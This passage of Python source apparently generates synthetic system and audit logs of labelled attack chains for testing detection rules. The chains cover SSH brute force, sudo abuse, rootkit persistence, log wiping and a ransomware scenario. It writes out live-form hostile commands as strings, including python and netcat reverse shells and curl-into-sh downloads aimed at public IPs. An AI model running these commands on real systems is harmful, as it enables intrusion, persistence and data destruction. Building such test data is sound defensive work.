                t = self.ssh(t, "User mhernandez from %s not allowed because account is locked" % ip, pid)
                for _ in range(2):
                    t = self.ssh(t + 2_200_000, "Failed password for invalid user mhernandez from %s port %d ssh2" % (ip, port), pid, prio=5)
                self.ssh(t + 300_000, "Connection closed by invalid user mhernandez %s port %d [preauth]" % (ip, port), pid)
            self.at(t0, s, attempt)
            self.at(t0 + 95 * SEC, s, attempt)

        def chain_system_account(self, t0):
            ip = "194.26.29.113"
            c = "system-account"
            st = {}
            s1 = self.step("S1", c, "SSH login as the web server's system account www-data", "T1078.003",
                           "Accepted password for www-data (uid 33) from a public address; PAM session for uid 33.",
                           ["sshd_system_account_login"], ["sshd_new_source_for_user"])

            def login(t):
                st["shell"], st["s"], st["pid"], st["port"], _ = self.ssh_login(t, ip, "www-data", 33)
            self.at(t0, s1, login)
            s2 = self.step("S2", c, "python reverse shell from the www-data session", "T1059.006",
                           "python3 -c 'import socket,subprocess,os;...s.connect((IP,443))...pty.spawn(\"/bin/bash\")'; python3 connects out.",
                           ["reverse_shell"])

            def pyrev(t):
                code = ("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                        "s.connect((\"%s\",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
                        "import pty; pty.spawn(\"/bin/bash\")" % ip)
                py = self.spawn(t, st["shell"], ["python3", "-c", code], "/usr/bin/python3.11")
                self.connect(t + 60_000, py, ip, 443)
                self.spawn(t + 90_000, py, ["/bin/bash"], "/usr/bin/bash")
                self.ssh_logout(t + 300 * SEC, ip, "www-data", st["s"], st["pid"], st["port"])
            self.at(t0 + 50 * SEC, s2, pyrev)

        def chain_insider(self, t0):
            c = "insider"
            st = {}
            s1 = self.step("I1", c, "forged sshd lines (logger -t sshd) naming an administrator's address", "T1036",
                           "A local user writes 12 'Failed password for root from 10.20.5.17' lines with logger -t sshd, to get "
                           "the administrator's address blocked.",
                           ["sshd_message_from_other_process"], ["sshd_failed_password", "sshd_brute_force", "sshd_password_spray"])

            def forge(t):
                shell, s, pid, port, t = self.ssh_login(t, "10.20.5.23", "mlopez", 1003, method="publickey",
                                                        key_fp="q7ZbNn0u2kP1mL9XvYtR3sD8fG5hJ4kL6zX1cV2bN3m")
                st.update(shell=shell, s=s, pid=pid, port=port)
                for i in range(12):
                    msg = "Failed password for root from 10.20.5.17 port %d ssh2" % (40000 + i * 7)
                    lg = self.spawn(t + 20 * SEC + i * 900_000, shell, ["logger", "-t", "sshd", msg], "/usr/bin/logger")
                    self.cemit(t + 20 * SEC + i * 900_000 + 2000, "logger", "sshd", msg, prio=5, pid=lg.pid, subst={"{S}": str(s)})
            self.at(t0, s1, forge)
            s2 = self.step("I2", c, "sudo -u#-1 (CVE-2019-14287)", "T1548.003",
                           "mlopez : ... USER=#-1 ; COMMAND=/usr/bin/bash (a runas-all-but-root rule bypassed).",
                           ["sudo_suspicious_target_user"], ["sudo_root_shell"])

            def minus1(t):
                sh = st["shell"]
                sudo = self.spawn(t, sh, ["sudo", "-u#-1", "/usr/bin/bash"], "/usr/bin/sudo")
                t = self.sudo_line(t + 2 * SEC, st["s"], "mlopez", "pts/%s" % sh.tty[3:], "/home/mlopez", "#-1", "/usr/bin/bash", pid=sudo.pid)
                self.cemit(t + 2000, "sudo", "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by mlopez(uid=1003)",
                           pid=sudo.pid, subst={"{S}": str(st["s"])})
                root = Proc(self.nextpid_sr(), sudo.pid, 0, sh.auid, sh.ses, sh.tty, "/home/mlopez", "/usr/bin/bash", ["/usr/bin/bash"])
                self.execve(t + 6000, root)
                self.cemit(t + 60 * SEC, "sudo", "sudo", "pam_unix(sudo:session): session closed for user root", pid=sudo.pid,
                           subst={"{S}": str(st["s"])})
                self.ssh_logout(t + 90 * SEC, "10.20.5.23", "mlopez", st["s"], st["pid"], st["port"])
            self.at(t0 + 120 * SEC, s2, minus1)

        def chain_stolen_key(self, t0):
            ip = "91.92.246.71"
            s1 = self.step("K1", "stolen-key", "deploy's stolen key used from the internet; sudo refused (not in sudoers)", "T1548.003",
                           "Accepted publickey for deploy from a public address, then sudo: 'deploy : user NOT in sudoers'.",
                           ["sudo_not_in_sudoers"], ["sshd_new_source_for_user", "sudo_authentication_failure"])

            def go(t):
                shell, s, pid, port, t = self.ssh_login(t, ip, "deploy", 1010, method="publickey",
                                                        key_fp="Hc3nP8wQ2xR5tY7uI9oP1aS3dF5gH7jK9lZ2xC4vB6n")
                self.spawn(t + 15 * SEC, shell, ["id"], "/usr/bin/id")
                sudo = self.spawn(t + 25 * SEC, shell, ["sudo", "-i"], "/usr/bin/sudo")
                tt = self.cemit(t + 29 * SEC, "sudo", "sudo", "  deploy : user NOT in sudoers ; TTY=pts/%s ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"
                                % shell.tty[3:], prio=2, pid=sudo.pid, subst={"{S}": str(s)})
                self.ssh_logout(tt + 40 * SEC, ip, "deploy", s, pid, port)
            self.at(t0, s1, go)

        def chain_sudo_guessing(self, t0):
            s1 = self.step("G1", "sudo-guessing", "sudo password guessing (a typed try, then 12 scripted sudo -S tries)", "T1110",
                           "jdoe's session runs sudo with 3 wrong passwords, then a loop pipes one guess at a time into "
                           "`sudo -S id`: 12 more pam_unix failures and '1 incorrect password attempt' lines in two minutes.",
                           ["sudo_authentication_failure", "sudo_repeated_failures"])

            def go(t):
                shell, s, pid, port, t = self.ssh_login(t, "10.20.6.31", "jdoe", 1001, method="publickey",
                                                        key_fp="x9LmN2bV4cX6zA8sD0fG2hJ4kL6qW8eR0tY2uI4oP6a")
                tty = "pts/%s" % shell.tty[3:]
                tr = t + 20 * SEC
                sudo = self.spawn(tr, shell, ["sudo", "su", "-"], "/usr/bin/sudo")
                for a in range(3):
                    self.cemit(tr + (4 + a * 5) * SEC, "sudo", "sudo",
                               "pam_unix(sudo:auth): authentication failure; logname=jdoe uid=1001 euid=0 tty=/dev/%s ruser=jdoe rhost=  user=jdoe" % tty,
                               prio=5, pid=sudo.pid, subst={"{S}": str(s)})
                self.cemit(tr + 16 * SEC, "sudo", "sudo", "    jdoe : 3 incorrect password attempts ; TTY=%s ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/su -" % tty,
                           prio=2, pid=sudo.pid, subst={"{S}": str(s)})
                # The scripted guesses: `for p in $(cat words); do echo "$p" | sudo -S id; done`, one try each.
                for k in range(12):
                    tg = t + 60 * SEC + k * 9 * SEC
                    guess = self.spawn(tg, shell, ["sudo", "-S", "id"], "/usr/bin/sudo")
                    self.cemit(tg + 2 * SEC, "sudo", "sudo",
                               "pam_unix(sudo:auth): authentication failure; logname=jdoe uid=1001 euid=0 tty=/dev/%s ruser=jdoe rhost=  user=jdoe" % tty,
                               prio=5, pid=guess.pid, subst={"{S}": str(s)})
                    self.cemit(tg + 2 * SEC + 3000, "sudo", "sudo", "    jdoe : 1 incorrect password attempt ; TTY=%s ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/id" % tty,
                               prio=2, pid=guess.pid, subst={"{S}": str(s)})
                self.ssh_logout(t + 260 * SEC, "10.20.6.31", "jdoe", s, pid, port)
            self.at(t0, s1, go)

        def chain_root_persistence(self, t0):
            c = "root-persistence"
            ip = "193.142.146.212"
            st = {}
            steps = []

            def add(sid, name, tech, desc, expect, allow=(), delay=90):
                steps.append((self.step(sid, c, name, tech, desc, expect, allow), delay))

            add("R1", "SSH login as root from the internet", "T1078.003", "Accepted password for root from a public address.",
                ["sshd_root_login"], ["sshd_new_source_for_user"], 0)
            add("R2", "groupadd -o -g 0 and useradd -o -u 0 (second root account)", "T1136.001",
                "groupadd -o -g 0 sysadmins; useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbackup; passwd sysbackup.",
                ["uid0_account_created", "local_user_created"])
            add("R3", "systemd unit written to /etc/systemd/system and enabled", "T1543.002",
                "bash writes /etc/systemd/system/dbus-update.service; daemon-reload; enable --now (systemd symlinks it).",
                ["systemd_unit_created"])
            add("R4", "root crontab replaced with crontab -e", "T1053.003",
                "crontab -e: BEGIN EDIT, tmp file, REPLACE (rename to /var/spool/cron/crontabs/root), END EDIT; cron RELOAD.",
                ["crontab_modified"])
            add("R5", "the planted cron job pipes a download into sh", "T1059.004",
                "cron runs /bin/sh -c 'curl -fsSL http://IP/s.sh | sh'.", ["download_and_execute"], (), 200)
            add("R6", "shell profile script added in /etc/profile.d", "T1546.004",
                "bash appends to /etc/profile.d/motd-update.sh.", ["shell_profile_modified"])
            add("R7", "/etc/ld.so.preload written", "T1574.006",
                "curl fetches a library into /usr/lib/x86_64-linux-gnu; echo its path > /etc/ld.so.preload.", ["ld_preload_modified"])
            add("R8", "setuid copy of bash", "T1548.001", "cp /usr/bin/bash /usr/local/bin/dbus-helper; chmod 4755 on it.",
                ["setuid_executable_created", "setuid_executable_created_exec"])
            add("R9", "out-of-tree kernel module loaded (rootkit)", "T1547.006",
                "insmod /root/.cache/km/diamorphine.ko: finit_module, KERN_MODULE, kernel taint lines.",
                ["kernel_module_loaded", "kernel_module_load_syscall"])
            add("R10", "nftables ruleset flushed", "T1562.004", "nft flush ruleset.", ["firewall_disabled"])
            add("R11", "AppArmor stopped and torn down", "T1562.001",
                "systemctl stop apparmor; aa-teardown (profile_remove AVC records).", ["mac_disabled"], ["service_stopped"])
            add("R12", "system clock set with date -s", "T1070.006", "date -s '2024-03-05 02:14:00' (clock_settime).",
                ["system_time_changed"])
            add("R13", "journal rotated, vacuumed and archived files deleted", "T1070.002",
                "journalctl --rotate; journalctl --vacuum-time=1s; rm -f of archived journal files.", ["journal_tampering"])
            add("R14", "shell history cleared", "T1070.003", "rm -f /root/.bash_history; ln -sf /dev/null /root/.bash_history.",
                ["history_cleared"])
            add("R15", "audit rules deleted (auditctl -D)", "T1562.012", "auditctl -D: CONFIG_CHANGE op=remove_rule for each rule.",
                ["audit_rules_deleted"])

            def r1(t):
                st["shell"], st["s"], st["pid"], st["port"], _ = self.ssh_login(t, ip, "root", 0)

            def r2(t):
                sh = st["shell"]
                g = self.spawn(t, sh, ["groupadd", "-o", "-g", "0", "sysadmins"], "/usr/sbin/groupadd")
                sub = {"{S}": str(st["s"])}
                for i, m in enumerate(["group added to /etc/group: name=sysadmins, GID=0",
                                       "group added to /etc/gshadow: name=sysadmins", "new group: name=sysadmins, GID=0"]):
                    self.cemit(t + 20_000 + i * 300, "groupadd", "groupadd", m, pid=g.pid, subst=sub)
                self.audit(t + 22_000, [("ADD_GROUP", "pid=%d uid=0 auid=0 ses=%d subj=unconfined msg='op=add-group id=0 "
                                                      "exe=\"/usr/sbin/groupadd\" hostname=%s addr=? terminal=%s res=success'"
                                         % (g.pid, st["s"], gj.HOST, sh.tty.replace("pts", "pts/")))])
                u = self.spawn(t + 30 * SEC, sh, ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "sysbackup"],
                               "/usr/sbin/useradd")
                for path in ("/etc/passwd", "/etc/shadow"):
                    self.open_write(t + 30 * SEC + 8000, u, path + "+", "identity")
                self.cemit(t + 30 * SEC + 12_000, "useradd", "useradd",
                           "new user: name=sysbackup, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/%s" % sh.tty.replace("pts", "pts/"),
                           pid=u.pid, subst={"{S}": str(st["s"]), "{U}": "sysbackup"})
                self.audit(t + 30 * SEC + 13_000, [("ADD_USER", "pid=%d uid=0 auid=0 ses=%d subj=unconfined msg='op=add-user id=0 "
                                                               "exe=\"/usr/sbin/useradd\" hostname=%s addr=? terminal=%s res=success'"
                                                    % (u.pid, st["s"], gj.HOST, sh.tty.replace("pts", "pts/")))])
                p = self.spawn(t + 40 * SEC, sh, ["passwd", "sysbackup"], "/usr/bin/passwd")
                self.cemit(t + 52 * SEC, "passwd", "passwd", "pam_unix(passwd:chauthtok): password changed for sysbackup", pid=p.pid,
                           subst={"{S}": str(st["s"]), "{U}": "sysbackup"})

            def r3(t):
                sh = st["shell"]
                unit = "/etc/systemd/system/dbus-update.service"
                self.open_write(t, sh, unit, "systemd_units")
                self.spawn(t + 1000, sh, ["cat"], "/usr/bin/cat")
                self.spawn(t + 20 * SEC, sh, ["systemctl", "daemon-reload"], "/usr/bin/systemctl")
                self.cemit(t + 20 * SEC + 30_000, "systemd", "systemd", "Reloading.", pid=1)
                self.spawn(t + 30 * SEC, sh, ["systemctl", "enable", "--now", "dbus-update.service"], "/usr/bin/systemctl")
                pid1 = Proc(1, 0, 0, 4294967295, 4294967295, "(none)", "/", "/usr/lib/systemd/systemd", ["/sbin/init"], comm="systemd")
                self.symlink(t + 30 * SEC + 20_000, pid1, unit, "/etc/systemd/system/multi-user.target.wants/dbus-update.service", "systemd_units")
                self.cemit(t + 30 * SEC + 40_000, "systemd", "systemd", "Reloading.", pid=1)
                self.sysd(t + 30 * SEC + 400_000, "Started dbus-update.service - D-Bus Update Helper.", "dbus-update.service")

            def r4(t):
                sh = st["shell"]
                sub = {"{S}": str(st["s"])}
                ct = self.spawn(t, sh, ["crontab", "-e"], "/usr/bin/crontab")
                self.cemit(t + 3000, "crontab", "crontab", "(root) BEGIN EDIT (root)", pid=ct.pid, subst=sub)
                self.spawn(t + 5000, ct, ["/usr/bin/sensible-editor", "/tmp/crontab.Qw3xYz/crontab"], "/usr/bin/dash",
                           script="/usr/bin/sensible-editor", comm="sensible-editor")
                tmp = "/var/spool/cron/crontabs/tmp.Xb81kQ"
                self.open_write(t + 40 * SEC, ct, tmp, "cron")
                self.rename(t + 40 * SEC + 500, ct, tmp, "/var/spool/cron/crontabs/root", "cron")
                self.cemit(t + 40 * SEC + 900, "crontab", "crontab", "(root) REPLACE (root)", pid=ct.pid, subst=sub)
                self.cemit(t + 40 * SEC + 1100, "crontab", "crontab", "(root) END EDIT (root)", pid=ct.pid, subst=sub)
                self.cemit(t + 61 * SEC, "crond", "cron", "(root) RELOAD (crontabs/root)", pid=688)

            def r5(t):
                cmd = "curl -fsSL http://%s/s.sh | sh" % ip
                cpid = self.nextpid_sr()
                self.cemit(t, "cron", "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid=cpid)
                self.cemit(t + 2000, "cron", "CRON", "(root) CMD (%s)" % cmd, pid=cpid)
                cron = Proc(cpid, 688, 0, 0, self.session + 1, "(none)", "/root", "/usr/sbin/cron", ["/usr/sbin/CRON", "-f"], comm="cron")
                sh = self.spawn(t + 5000, cron, ["/bin/sh", "-c", cmd], "/usr/bin/dash")
                cu = self.spawn(t + 7000, sh, ["curl", "-fsSL", "http://%s/s.sh" % ip], "/usr/bin/curl", key="susp_activity")
                self.connect(t + 9000, cu, ip, 80)
                inner = self.spawn(t + 7500, sh, ["sh"], "/usr/bin/dash")
                self.spawn(t + 400_000, inner, ["uname", "-m"], "/usr/bin/uname")
                self.cemit(t + 2 * SEC, "cron", "CRON", "pam_unix(cron:session): session closed for user root", pid=cpid)

            def r6(t):
                self.open_write(t, st["shell"], "/etc/profile.d/motd-update.sh", "shell_profile", append=True)

            def r7(t):
                sh = st["shell"]
                lib = "/usr/lib/x86_64-linux-gnu/libpam_ext.so.1"
                cu = self.spawn(t, sh, ["curl", "-s", "-o", lib, "http://%s/l.so" % ip], "/usr/bin/curl", key="susp_activity")
                self.connect(t + 20_000, cu, ip, 80)
                self.open_write(t + 8 * SEC, sh, "/etc/ld.so.preload", "ld_preload")

            def r8(t):
                sh = st["shell"]
                self.spawn(t, sh, ["cp", "/usr/bin/bash", "/usr/local/bin/dbus-helper"], "/usr/bin/cp")
                ch = self.spawn(t + 4 * SEC, sh, ["chmod", "4755", "/usr/local/bin/dbus-helper"], "/usr/bin/chmod")
                self.audit(t + 4 * SEC + 1000, [self._syscall(ch, 268, 0, ["ffffff9c", self._ptr(), "9ed", "0"], 1, "setuid_chmod"),
                                                ("CWD", "cwd=\"/root\""),
                                                self._path(0, "/usr/local/bin/dbus-helper", "NORMAL"), self._proctitle(ch)])

            def r9(t):
                sh = st["shell"]
                ko = "/root/.cache/km/diamorphine.ko"
                ins = self.spawn(t, sh, ["insmod", ko], "/usr/bin/kmod", comm="insmod")
                self.cemit(t + 30_000, "kernel", "kernel", "diamorphine: loading out-of-tree module taints kernel.", prio=4)
                self.cemit(t + 31_000, "kernel", "kernel", "diamorphine: module verification failed: signature and/or required key missing - tainting kernel", prio=3)
                self.audit(t + 32_000, [self._syscall(ins, 313, 0, ["3", self._ptr(), "0", "0"], 0, "kernel_module"),
                                        ("KERN_MODULE", 'name="diamorphine"'), self._proctitle(ins)])

            def r10(t):
                self.spawn(t, st["shell"], ["nft", "flush", "ruleset"], "/usr/sbin/nft")

            def r11(t):
                sh = st["shell"]
                self.spawn(t, sh, ["systemctl", "stop", "apparmor"], "/usr/bin/systemctl")
                self.sysd(t + 20_000, "Stopping apparmor.service - Load AppArmor profiles...", "apparmor.service")
                self.sysd(t + 200_000, "apparmor.service: Deactivated successfully.", "apparmor.service")
                self.sysd(t + 201_000, "Stopped apparmor.service - Load AppArmor profiles.", "apparmor.service")
                td = self.spawn(t + 10 * SEC, sh, ["/bin/sh", "/usr/sbin/aa-teardown"], "/usr/bin/dash", script="/usr/sbin/aa-teardown")
                for i, prof in enumerate(["/usr/sbin/nginx", "/usr/bin/man", "lsb_release", "nvidia_modprobe"]):
                    self.audit(t + 10 * SEC + 50_000 + i * 5000, [
                        ("AVC", 'apparmor="STATUS" operation="profile_remove" profile="unconfined" name=%s pid=%d comm="aa-teardown"'
                         % (audit_quote(prof), td.pid)),
                        self._syscall(td, 1, len(prof), ["3", self._ptr(), "%x" % len(prof), "0"], 0, None),
                        self._proctitle(td)])

            def r12(t):
                d = self.spawn(t, st["shell"], ["date", "-s", "2024-03-05 02:14:00"], "/usr/bin/date")
                self.audit(t + 1000, [self._syscall(d, 227, 0, ["0", self._ptr(), "0", "0"], 0, "time_change"), self._proctitle(d)])

            def r13(t):
                sh = st["shell"]
                self.spawn(t, sh, ["journalctl", "--rotate"], "/usr/bin/journalctl")
                self.spawn(t + 3 * SEC, sh, ["journalctl", "--vacuum-time=1s"], "/usr/bin/journalctl")
                d = "/var/log/journal/%s" % gj.MACHINE_ID
                files = ["%s/system@8e5b2a0f6c1d4e3fa2b7c9d0e1f2a3b4-00000000000a1b2c-000612a1b2c3d4e5.journal" % d,
                         "%s/user-1002@8e5b2a0f6c1d4e3fa2b7c9d0e1f2a3b4-00000000000a1c00-000612a1b2c9e0f1.journal" % d]
                rm = self.spawn(t + 20 * SEC, sh, ["rm", "-f"] + files, "/usr/bin/rm")
                for i, f in enumerate(files):
                    self.unlink(t + 20 * SEC + 2000 + i * 500, rm, f, "log_delete")

            def r14(t):
                sh = st["shell"]
                self.spawn(t, sh, ["rm", "-f", "/root/.bash_history"], "/usr/bin/rm")
                self.spawn(t + 3 * SEC, sh, ["ln", "-sf", "/dev/null", "/root/.bash_history"], "/usr/bin/ln")

            def r15(t):
                sh = st["shell"]
                a = self.spawn(t, sh, ["auditctl", "-D"], "/usr/sbin/auditctl", key="audit_tools")
                keys = ["susp_activity", "exec", "exec", "identity", "sudoers", "ssh_keys", "cron", "systemd_units", "kernel_module"]
                self.sendto_config(t + 3000, a, ['auid=0 ses=%d subj=unconfined op=remove_rule key="%s" list=%d res=1' % (st["s"], k, 4)
                                                 for k in keys])
                self.ssh_logout(t + 60 * SEC, ip, "root", st["s"], st["pid"], st["port"])

            fns = [r1, r2, r3, r4, r5, r6, r7, r8, r9, r10, r11, r12, r13, r14, r15]
            t = t0
            for (s, delay), fn in zip(steps, fns):
                t += delay * SEC + self.sr.randint(0, 20 * SEC)
                self.at(t, s, fn)

        def chain_ransomware(self, t0):
            c = "ransomware"
            ip = "80.66.88.207"
            st = {}
            s1 = self.step("X1", c, "ansible's stolen key from the internet, sudo -i", "T1078",
                           "Accepted publickey for ansible from a public address; sudo -i (NOPASSWD) to a root shell.",
                           ["sudo_root_shell"], ["sshd_new_source_for_user"])

            def login(t):
                shell, s, pid, port, t = self.ssh_login(t, ip, "ansible", 1011, method="publickey",
                                                        key_fp="Zr8uT3wQ1eR5tY7uI9oP2aS4dF6gH8jK0lZ3xC5vB7n")
                st.update(s=s, pid=pid, port=port, shell=shell)
                st["root"] = self.sudo_root_shell(t + 12 * SEC, shell, "ansible", 1011, s)
            self.at(t0, s1, login)
            s2 = self.step("X2", c, "mkfifo + nc reverse shell", "T1059.004",
                           "bash -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc IP 4444 > /tmp/f'",
                           ["reverse_shell"])

            def fifo(t):
                r = st["root"]
                b = self.spawn(t, r, ["bash", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc %s 4444 > /tmp/f" % ip],
                               "/usr/bin/bash")
                self.spawn(t + 2000, b, ["rm", "-f", "/tmp/f"], "/usr/bin/rm")
                self.spawn(t + 4000, b, ["mkfifo", "/tmp/f"], "/usr/bin/mkfifo")
                self.spawn(t + 6000, b, ["cat", "/tmp/f"], "/usr/bin/cat")
                self.spawn(t + 6100, b, ["/bin/sh", "-i"], "/usr/bin/dash")
                nc = self.spawn(t + 6200, b, ["nc", ip, "4444"], "/usr/bin/nc.openbsd", key="susp_activity")
                self.connect(t + 8000, nc, ip, 4444)
            self.at(t0 + 80 * SEC, s2, fifo)
            s3 = self.step("X3", c, "Cordon stopped", "T1562.001", "systemctl stop cordon: PID 1 stops cordon.service.",
                           ["cordon_stopped"], ["service_stopped"])

            def stop_cordon(t):
                self.spawn(t, st["root"], ["systemctl", "stop", "cordon"], "/usr/bin/systemctl")
                desc = "Cordon: Sigma rules on the systemd journal, alerts and responses"
                self.sysd(t + 20_000, "Stopping cordon.service - %s..." % desc, "cordon.service")
                self.sysd(t + 180_000, "cordon.service: Deactivated successfully.", "cordon.service")
                self.sysd(t + 181_000, "Stopped cordon.service - %s." % desc, "cordon.service")
                self.sysd(t + 182_000, "cordon.service: Consumed 1min 12.408s CPU time.", "cordon.service")
                self.audit(t + 181_500, [("SERVICE_STOP", "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=cordon "
                                                          "comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")])
            self.at(t0 + 150 * SEC, s3, stop_cordon)
            s4 = self.step("X4", c, "backups deleted", "T1490",
                           "rm -f of PostgreSQL dumps in /var/backups/ehr, find /srv/backup -delete, lvremove of the snapshot; "
                           "from ansible's own shell, sudo rm -rf /var/backups/archive (sudo logs the command).",
                           ["backup_deletion", "backup_deletion_sudo"])

            def backups(t):
                r = st["root"]
                dumps = ["/var/backups/ehr/ehr-2024-03-%02d.dump" % d for d in range(1, 7)]
                self.spawn(t, r, ["rm", "-f"] + dumps, "/usr/bin/rm")
                self.spawn(t + 8 * SEC, r, ["find", "/srv/backup", "-name", "*.tar.gz", "-delete"], "/usr/bin/find")
                self.spawn(t + 20 * SEC, r, ["lvremove", "-f", "/dev/vg0/ehr-data-snap"], "/usr/sbin/lvm", comm="lvremove")
                shell = st["shell"]
                sudo = self.spawn(t + 30 * SEC, shell, ["sudo", "rm", "-rf", "/var/backups/archive"], "/usr/bin/sudo")
                tt = self.sudo_line(t + 30 * SEC + 40_000, st["s"], "ansible", "pts/%s" % shell.tty[3:], shell.cwd, "root",
                                    "/usr/bin/rm -rf /var/backups/archive", pid=sudo.pid)
                self.spawn(tt + 5000, Proc(sudo.pid, shell.pid, 0, shell.auid, st["s"], shell.tty, shell.cwd, "/usr/bin/sudo", [],
                                           comm="sudo"), ["rm", "-rf", "/var/backups/archive"], "/usr/bin/rm")
            self.at(t0 + 240 * SEC, s4, backups)
            s5 = self.step("X5", c, "mass encryption: 40 patient documents renamed to .locked", "T1486",
                           "/dev/shm/.k/enc renames /srv/ehr/documents/*.pdf to *.pdf.locked, 40 files in ~20 s.",
                           ["encrypted_file_written", "mass_file_encryption"], ["executable_in_tmp"])

            def encrypt(t):
                r = st["root"]
                enc = self.spawn(t, r, ["/dev/shm/.k/enc", "-p", "/srv/ehr/documents"], "/dev/shm/.k/enc")
                st["enc"] = enc
                enc.cwd = "/srv/ehr/documents"
                for i in range(40):
                    f = "/srv/ehr/documents/patient-%06d-%s.pdf" % (self.sr.randint(100000, 999999),
                                                                    self.sr.choice(["consent", "discharge", "lab", "imaging"]))
                    self.rename(t + 2 * SEC + i * 500_000, enc, f, f + ".locked", "data_rename")
            self.at(t0 + 300 * SEC, s5, encrypt)
            s6 = self.step("X6", c, "ransom note written", "T1486",
                           "enc creates /srv/ehr/documents/HOW_TO_DECRYPT.txt and /root/HOW_TO_DECRYPT.txt; root's shell "
                           "copies the note to /srv/ehr/HOW_TO_DECRYPT.txt with cp.",
                           ["ransom_note_created", "ransom_note_created_cmdline"], ["executable_in_tmp"])

            def note(t):
                for path in ("/srv/ehr/documents/HOW_TO_DECRYPT.txt", "/root/HOW_TO_DECRYPT.txt"):
                    self.open_write(t, st["enc"], path, "data_write")
                    t += 40_000
                self.spawn(t + 2 * SEC, st["root"], ["cp", "/root/HOW_TO_DECRYPT.txt", "/srv/ehr/HOW_TO_DECRYPT.txt"], "/usr/bin/cp")
                t += 2 * SEC
                self.ssh_logout(t + 30 * SEC, ip, "ansible", st["s"], st["pid"], st["port"])
            self.at(t0 + 330 * SEC, s6, note)

        def chain_crash_loop(self, t0):
            s = self.step("C1", "crash-loop", "ehr-api.service crash loop (restart counter 1..11, then start limit)", "T1499",
                          "The API exits with status 1 twelve times ~12 s apart; systemd schedules restarts, then gives up.",
                          ["service_failing_repeatedly", "service_restart_loop"], ["service_stopped"])
            unit, desc = "ehr-api.service", "EHR REST API"

            def cycle(t, k):
                self.sysd(t, "%s: Main process exited, code=exited, status=1/FAILURE" % unit, unit, prio=5,
                          extra=[("EXIT_CODE", "exited"), ("EXIT_STATUS", "1")])
                self.sysd(t + 1000, "%s: Failed with result 'exit-code'." % unit, unit, prio=4, extra=[("UNIT_RESULT", "exit-code")])
                if k < 12:
                    self.sysd(t + 5 * SEC, "%s: Scheduled restart job, restart counter is at %d." % (unit, k), unit,
                              extra=[("N_RESTARTS", str(k))])
                    self.sysd(t + 5 * SEC + 1000, "Stopped %s - %s." % (unit, desc), unit)
                    self.sysd(t + 5 * SEC + 2000, "Started %s - %s." % (unit, desc), unit)
                else:
                    self.sysd(t + 5 * SEC, "%s: Start request repeated too quickly." % unit, unit, prio=4)
                    self.sysd(t + 5 * SEC + 500, "%s: Failed with result 'exit-code'." % unit, unit, prio=4, extra=[("UNIT_RESULT", "exit-code")])
                    self.sysd(t + 5 * SEC + 1000, "Failed to start %s - %s." % (unit, desc), unit, prio=3, extra=[("JOB_RESULT", "failed")])
            for k in range(1, 13):
                self.at(t0 + (k - 1) * 12 * SEC, s, lambda t, k=k: cycle(t, k))

        def chain_db_burst(self, t0):
            s = self.step("B1", "db-burst", "PostgreSQL password guessing: 40 failures in 90 s", "T1110.001",
                          "40 'password authentication failed for user' (postgres, ehr, admin, replicator) plus 'no pg_hba.conf "
                          "entry' lines in 90 s.", ["database_auth_failure", "database_auth_failure_burst"])

            def attempt(t, i):
                pid = self.nextpid_sr()
                user = ["postgres", "ehr", "admin", "replicator"][i % 4]
                if i % 10 == 9:
                    self.cemit(t, "pg", "postgres", '[%d] %s@postgres FATAL:  no pg_hba.conf entry for host "10.20.9.77", user "%s", '
                               'database "postgres", no encryption' % (pid, user, user), prio=3, pid=pid)
                    return
                self.cemit(t, "pg", "postgres", '[%d] %s@postgres FATAL:  password authentication failed for user "%s"' % (pid, user, user),
                           prio=3, pid=pid)
                self.cemit(t + 300, "pg", "postgres", '[%d] %s@postgres DETAIL:  Connection matched pg_hba.conf line 127: '
                           '"host    all             all             10.20.0.0/16            scram-sha-256"' % (pid, user), prio=3, pid=pid)
            for i in range(44):
                self.at(t0 + i * 2 * SEC + self.sr.randint(0, SEC), s, lambda t, i=i: attempt(t, i))

        def chain_issue(self, t0):
            c = "issue-chain"
            ip = "179.43.187.92"
            st = {}
            spec = [
                ("A1", "SSH brute force on asmith from one address (~2 attempts/s)", "T1110.001",
                 "80 failed passwords for asmith from one address, 3 per connection, about 2 a second.",
                 ["sshd_failed_password", "sshd_brute_force"], [], 0),
                ("A2", "password accepted from the brute-forcing address", "T1078",
                 "Accepted password for asmith from the same address: a guessed password.",
                 ["sshd_login_after_brute_force", "sshd_new_source_for_user"], [], 60),
                ("A3", "sudo -i to a root shell", "T1548.003", "asmith : ... USER=root ; COMMAND=/bin/bash; root's -bash.",
                 ["sudo_root_shell"], [], 30),
                ("A4", "new local user", "T1136.001", "useradd -m -s /bin/bash sysadm (UID 1007), passwd sysadm.",
                 ["local_user_created"], [], 45),
                ("A5", "new user added to the sudo group", "T1098", "usermod -aG sudo sysadm.",
                 ["user_added_to_privileged_group", "user_added_to_privileged_group_exec"], [], 50),
                ("A6", "root's authorized_keys written", "T1098.004", "echo ssh-ed25519 ... >> /root/.ssh/authorized_keys.",
                 ["authorized_keys_changed"], [], 40),
                ("A7", "auditd stopped", "T1562.012",
                 "systemctl stop auditd: PID 1 stops auditd.service; CONFIG_CHANGE audit_pid=0; SERVICE_STOP unit=auditd.",
                 ["auditd_stopped", "auditd_gone"], ["service_stopped"], 50),
                ("A8", "auditing disabled (auditctl -e 0)", "T1562.012", "CONFIG_CHANGE op=set audit_enabled=0 old=1.",
                 ["audit_disabled"], [], 15),
                ("A9", "mass stop of services in 30 s", "T1489",
                 "systemctl stop of 12 services (EHR API, nginx, PostgreSQL, cron, rsyslog, ...) within 30 s.",
                 ["service_stopped", "mass_service_stop"], [], 40),
            ]
